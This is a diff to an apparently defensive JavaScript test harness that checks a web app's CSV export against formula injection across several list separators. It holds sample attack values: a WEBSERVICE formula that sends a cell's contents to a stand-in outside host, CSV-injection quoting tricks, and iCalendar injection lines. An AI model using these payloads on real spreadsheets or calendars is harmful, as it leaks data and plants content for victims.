@@ -9,7 +9,12 @@ const FORMULAS = [
   'SUM(1,2)',
   'WEBSERVICE("https://elsewhere.example/"&A1)',
 ];
-const QUOTING = ['a","b', 'a\\"b', '"', '""', 'a,b', "a'b", '";=1+1;"', 'a"=1+1'];
+const QUOTING = [
+  ...['a","b', 'a\\"b', '"', '""', 'a,b', "a'b", '";=1+1;"', 'a"=1+1'],
+  ...['x;=1+1;y', 'x;@SUM(1,2);y', 'x;＝1+1', '";=1+1', 'x|=1+1', 'x";"=1+1'],
+];
+/** A spreadsheet takes the list separator of its region for that of a CSV. */
+const OTHER_SEPARATORS = [';', '|', '\t'];
 const CALENDAR = [
   'Call\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:planted',
   'Call\r\nATTENDEE:mailto:evil@elsewhere.example',
@@ -62,21 +67,43 @@ async function tryCsv(copy, attacks, headers, kept) {
   );
   attacks.note('a CSV that is sniffed', answer.headers.get('x-content-type-options') === 'nosniff');
   attacks.note('a CSV that caches keep', answer.headers.get('cache-control') === 'no-store');
-  const rows = parseCsv(csv.replace(/^\ufeff/, ''));
+  const text = csv.replace(/^\ufeff/, '');
+  for (const separator of OTHER_SEPARATORS)
+    for (const cell of cellsOf(text, separator))
+      attacks.note(
+        `the cell ${JSON.stringify(cell)}, read with ${JSON.stringify(separator)},`,
+        !looksLikeFormula(cell),
+      );
+  const rows = parseCsv(text);
   const width = rows[0].length;
   for (const row of rows) {
     attacks.note(`a row of ${row.length} cells`, row.length === width, row);
-    for (const cell of row)
-      attacks.note(
-        `the cell ${JSON.stringify(cell)}`,
-        !/^[\s\u00a0]*[=+\-@＝＋－＠]|^[\t\r]/.test(cell),
-        cell,
-      );
+    for (const cell of row) attacks.note(`the cell ${JSON.stringify(cell)}`, !looksLikeFormula(cell), cell);
   }
   for (const [email, name] of kept) {
     const row = rows.find((each) => each[1].replace(/^'/, '') === email);
     attacks.note(`${email} lost its name`, row?.[0].replace(/^'/, '') === name, row);
   }
+}
+
+function looksLikeFormula(cell) {
+  return /^[\s\u00a0]*[=+\-@＝＋－＠]|^[\t\r]/.test(cell);
+}
+
+/** As a spreadsheet reads it: what follows a closing quote belongs to the cell, and a quote further in is a letter. */
+function cellsOf(text, separator) {
+  const cells = new RegExp(
+    `(?:"((?:[^"]|"")*)"([^${separator}\\r\\n]*)|([^${separator}\\r\\n]*))(?:[${separator}]|\\r\\n|$)`,
+    'gy',
+  );
+  const found = [];
+  while (cells.lastIndex < text.length) {
+    const cell = cells.exec(text);
+    if (!cell) throw new Error(`The CSV cannot be read with ${separator}.`);
+    const [, quoted, rest, plain] = cell;
+    found.push(quoted === undefined ? plain : quoted.replaceAll('""', '"') + rest);
+  }
+  return found;
 }
 
 /** RFC 4180, strictly: a quote inside a cell without quotes is a fault. */
